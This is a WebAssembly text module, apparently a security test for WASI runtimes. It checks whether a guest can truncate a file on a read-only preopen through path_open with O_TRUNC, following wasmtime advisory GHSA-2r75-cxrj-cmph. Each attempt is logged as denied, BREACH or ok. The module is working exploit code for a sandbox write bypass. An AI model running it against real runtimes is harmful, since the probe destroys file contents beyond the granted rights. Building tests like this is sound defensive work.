;; Attack: truncate a file on a read-only preopen with path_open(O_TRUNC). First exactly
;; as in wasmtime advisory GHSA-2r75-cxrj-cmph: oflags = O_TRUNC only, rights base = FD_READ
;; only (no write requested, so a check that only looks at the requested rights lets it
;; through, and the host open truncates). Then with all rights, O_CREAT|O_TRUNC, through an
;; in-sandbox link (datalink -> data.txt) and via sub/../data.txt. Any successful open
;; truncates data.txt; the guest writes a marker line into whatever it opened.
(module
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "proc_exit" (func $proc_exit (param i32)))

  (memory (export "memory") 1)

  ;; ---------------------------------------------------------------- strings
  ;; Each string: a global holding its address, where a 4-byte length precedes the bytes.
  ;; Names follow the text ("/" and "." become "_", ".." becomes "dd"); $op_* are labels.
  (global $s_nl i32 (i32.const 1024)) (data (i32.const 1024) "\01\00\00\00\0a")
  (global $s_denied i32 (i32.const 1032)) (data (i32.const 1032) "\07\00\00\00denied ")
  (global $s_breach i32 (i32.const 1044)) (data (i32.const 1044) "\07\00\00\00BREACH ")
  (global $s_ok i32 (i32.const 1056)) (data (i32.const 1056) "\03\00\00\00ok ")
  (global $s_open_quote i32 (i32.const 1064)) (data (i32.const 1064) "\02\00\00\00 \22")
  (global $s_close_quote i32 (i32.const 1072)) (data (i32.const 1072) "\01\00\00\00\22")
  (global $s_errno i32 (i32.const 1080)) (data (i32.const 1080) "\08\00\00\00 (errno ")
  (global $s_paren i32 (i32.const 1092)) (data (i32.const 1092) "\01\00\00\00)")
  (global $s_colon i32 (i32.const 1100)) (data (i32.const 1100) "\02\00\00\00: ")
  (global $s_marker i32 (i32.const 1108)) (data (i32.const 1108) "\11\00\00\00GUEST-WROTE-THIS\0a")
  (global $s_op_open i32 (i32.const 1132)) (data (i32.const 1132) "\04\00\00\00open")
  (global $s_op_open_follow i32 (i32.const 1140)) (data (i32.const 1140) "\0b\00\00\00open+follow")
  (global $s_op_opendir i32 (i32.const 1156)) (data (i32.const 1156) "\07\00\00\00opendir")
  (global $s_op_fd_write i32 (i32.const 1168)) (data (i32.const 1168) "\08\00\00\00fd_write")
  (global $s_done i32 (i32.const 1180)) (data (i32.const 1180) "\05\00\00\00done\0a")
  (global $p_data_txt i32 (i32.const 1192)) (data (i32.const 1192) "\08\00\00\00data.txt")
  (global $op_open_O_TRUNC i32 (i32.const 1204)) (data (i32.const 1204) "\0d\00\00\00open(O_TRUNC)")
  (global $op_open_O_CREAT_O_TRUNC i32 (i32.const 1224)) (data (i32.const 1224) "\15\00\00\00open(O_CREAT|O_TRUNC)")
  (global $op_open_O_TRUNC_follow i32 (i32.const 1252)) (data (i32.const 1252) "\14\00\00\00open(O_TRUNC)+follow")
  (global $p_datalink i32 (i32.const 1276)) (data (i32.const 1276) "\08\00\00\00datalink")
  (global $p_sub_dd_data_txt i32 (i32.const 1288)) (data (i32.const 1288) "\0f\00\00\00sub/../data.txt")

  ;; ---------------------------------------------------------------- helpers
  ;; Memory map: 0..8 iovec, 8 nread/nwritten, 12 fd returned by path_open,
  ;; 16 bufused, 32..64 decimal digits, 128..192 filestat/fdstat scratch,
  ;; 512..1024 readlink buffer, 1024.. strings, 8192..12288 read buffer.
  ;; A "string" is a 4-byte little-endian length followed by its bytes.

  ;; Rights. (i64.const -1) is not used: bits above 29 are no rights, and some runtimes
  ;; (wasmtime) trap converting them.
  ;; All 30 rights preview1 defines (bits 0..29): used for opening files to write.
  (global $all_rights i64 (i64.const 0x3fffffff))
  ;; Read-only file rights (FD_READ|FD_SEEK|FD_TELL|FD_FILESTAT_GET): used for reading,
  ;; so that a read never fails just because the host file is not writable.
  (global $read_rights i64 (i64.const 0x200026))
  ;; Directory rights: all except FD_DATASYNC, FD_WRITE, FD_ALLOCATE, FD_FILESTAT_SET_SIZE
  ;; (asking a directory for write rights gets EISDIR on some runtimes).
  (global $dir_rights i64 (i64.const 0x3fbffebe))
  ;; Rights requested by $try_write (cases about rights change it).
  (global $open_rights (mut i64) (i64.const 0x3fffffff))

  ;; Write len bytes at ptr to stdout (fd 1).
  (func $print (param $ptr i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $ptr))
    (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8))))

  ;; Address of the bytes, and length, of a length-prefixed string.
  (func $str (param $s i32) (result i32) (i32.add (local.get $s) (i32.const 4)))
  (func $len (param $s i32) (result i32) (i32.load (local.get $s)))

  ;; Print a length-prefixed string.
  (func $print_s (param $s i32)
    (call $print (i32.add (local.get $s) (i32.const 4)) (i32.load (local.get $s))))

  ;; Print an unsigned 32-bit number in decimal.
  (func $print_num (param $n i32)
    (local $p i32)
    (local.set $p (i32.const 64))
    (loop $digit
      (local.set $p (i32.sub (local.get $p) (i32.const 1)))
      (i32.store8 (local.get $p)
        (i32.add (i32.const 48) (i32.rem_u (local.get $n) (i32.const 10))))
      (local.set $n (i32.div_u (local.get $n) (i32.const 10)))
      (br_if $digit (local.get $n)))
    (call $print (local.get $p) (i32.sub (i32.const 64) (local.get $p))))

  ;; Copy what can be read from fd to stdout (at most 16 reads of 4 KiB).
  (func $dump_fd (param $fd i32)
    (local $i i32)
    (block $done
      (loop $more
        (i32.store (i32.const 0) (i32.const 8192))
        (i32.store (i32.const 4) (i32.const 4096))
        (br_if $done (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
        (br_if $done (i32.eqz (i32.load (i32.const 8))))
        (call $print (i32.const 8192) (i32.load (i32.const 8)))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br_if $more (i32.lt_u (local.get $i) (i32.const 16))))))

  ;; Print the outcome of operation $op on path (ptr, len), without a newline:
  ;;   denied <op> "<path>" (errno N)   the runtime refused
  ;;   BREACH <op> "<path>"             it succeeded but must not have
  ;;   ok <op> "<path>"                 it succeeded and that is allowed
  (func $outcome (param $op i32) (param $ptr i32) (param $len i32) (param $errno i32) (param $must_fail i32)
    (if (local.get $errno)
      (then (call $print_s (global.get $s_denied)))
      (else (if (local.get $must_fail)
        (then (call $print_s (global.get $s_breach)))
        (else (call $print_s (global.get $s_ok))))))
    (call $print_s (local.get $op))
    (call $print_s (global.get $s_open_quote))
    (call $print (local.get $ptr) (local.get $len))
    (call $print_s (global.get $s_close_quote))
    (if (local.get $errno) (then
      (call $print_s (global.get $s_errno))
      (call $print_num (local.get $errno))
      (call $print_s (global.get $s_paren)))))

  ;; One full report line for operation $op on string $path.
  (func $report (param $op i32) (param $path i32) (param $errno i32) (param $must_fail i32)
    (call $outcome (local.get $op) (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path))
      (local.get $errno) (local.get $must_fail))
    (call $print_s (global.get $s_nl)))

  ;; Open path (ptr, len) under dirfd for reading (read-only rights); on success print its bytes
  ;; after the outcome ("ok open "x": <bytes>"). Returns the errno.
  (func $try_read_raw (param $dirfd i32) (param $lookup i32) (param $ptr i32) (param $len i32) (param $must_fail i32) (result i32)
    (local $err i32) (local $fd i32)
    (local.set $err (call $path_open (local.get $dirfd) (local.get $lookup) (local.get $ptr) (local.get $len)
      (i32.const 0) (global.get $read_rights) (i64.const 0) (i32.const 0) (i32.const 12)))
    (local.set $fd (i32.load (i32.const 12)))
    (call $outcome (select (global.get $s_op_open_follow) (global.get $s_op_open) (local.get $lookup))
      (local.get $ptr) (local.get $len) (local.get $err) (local.get $must_fail))
    (if (i32.eqz (local.get $err)) (then
      (call $print_s (global.get $s_colon))
      (call $dump_fd (local.get $fd))
      (drop (call $fd_close (local.get $fd)))))
    (call $print_s (global.get $s_nl))
    (local.get $err))

  ;; $try_read_raw for a length-prefixed string.
  (func $try_read (param $dirfd i32) (param $lookup i32) (param $path i32) (param $must_fail i32) (result i32)
    (call $try_read_raw (local.get $dirfd) (local.get $lookup)
      (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path)) (local.get $must_fail)))

  ;; path_open with oflags (O_CREAT=1, O_DIRECTORY=2, O_EXCL=4, O_TRUNC=8); on
  ;; success write a marker line into the file, so a file created or truncated
  ;; outside the sandbox also changes content. Returns the errno.
  (func $try_write (param $op i32) (param $dirfd i32) (param $lookup i32) (param $path i32) (param $oflags i32) (param $must_fail i32) (result i32)
    (local $err i32) (local $fd i32)
    (local.set $err (call $path_open (local.get $dirfd) (local.get $lookup)
      (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path))
      (local.get $oflags) (global.get $open_rights) (global.get $open_rights) (i32.const 0) (i32.const 12)))
    (local.set $fd (i32.load (i32.const 12)))
    (call $report (local.get $op) (local.get $path) (local.get $err) (local.get $must_fail))
    (if (i32.eqz (local.get $err)) (then
      (i32.store (i32.const 0) (i32.add (global.get $s_marker) (i32.const 4)))
      (i32.store (i32.const 4) (i32.load (global.get $s_marker)))
      (call $report (global.get $s_op_fd_write) (local.get $path)
        (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)) (local.get $must_fail))
      (drop (call $fd_close (local.get $fd)))))
    (local.get $err))

  ;; Open a directory (O_DIRECTORY); report it; return its fd or -1.
  (func $open_dir (param $dirfd i32) (param $lookup i32) (param $path i32) (param $must_fail i32) (result i32)
    (local $err i32)
    (local.set $err (call $path_open (local.get $dirfd) (local.get $lookup)
      (i32.add (local.get $path) (i32.const 4)) (i32.load (local.get $path))
      (i32.const 2) (global.get $dir_rights) (global.get $all_rights) (i32.const 0) (i32.const 12)))
    (call $report (global.get $s_op_opendir) (local.get $path) (local.get $err) (local.get $must_fail))
    (if (result i32) (local.get $err) (then (i32.const -1)) (else (i32.load (i32.const 12)))))

  ;; ---------------------------------------------------------------- the attack
  (func (export "_start")
    ;; Positive control: reading works on the read-only preopen.
    (drop (call $try_read (i32.const 3) (i32.const 0) (global.get $p_data_txt) (i32.const 0)))  ;; "data.txt"
    ;; GHSA-2r75-cxrj-cmph: O_TRUNC alone, with rights = FD_READ only (0x2).
    (global.set $open_rights (i64.const 0x2))
    (drop (call $try_write (global.get $op_open_O_TRUNC) (i32.const 3) (i32.const 0) (global.get $p_data_txt) (i32.const 8) (i32.const 1)))  ;; "data.txt"
    ;; The same with all rights, with O_CREAT, through an in-sandbox link and via sub/..
    (global.set $open_rights (global.get $all_rights))
    (drop (call $try_write (global.get $op_open_O_TRUNC) (i32.const 3) (i32.const 0) (global.get $p_data_txt) (i32.const 8) (i32.const 1)))  ;; "data.txt"
    (drop (call $try_write (global.get $op_open_O_CREAT_O_TRUNC) (i32.const 3) (i32.const 0) (global.get $p_data_txt) (i32.const 9) (i32.const 1)))  ;; "data.txt"
    (drop (call $try_write (global.get $op_open_O_TRUNC_follow) (i32.const 3) (i32.const 1) (global.get $p_datalink) (i32.const 8) (i32.const 1)))  ;; "datalink"
    (drop (call $try_write (global.get $op_open_O_TRUNC) (i32.const 3) (i32.const 0) (global.get $p_sub_dd_data_txt) (i32.const 8) (i32.const 1)))  ;; "sub/../data.txt"
    (call $print_s (global.get $s_done))
    (call $proc_exit (i32.const 0))))
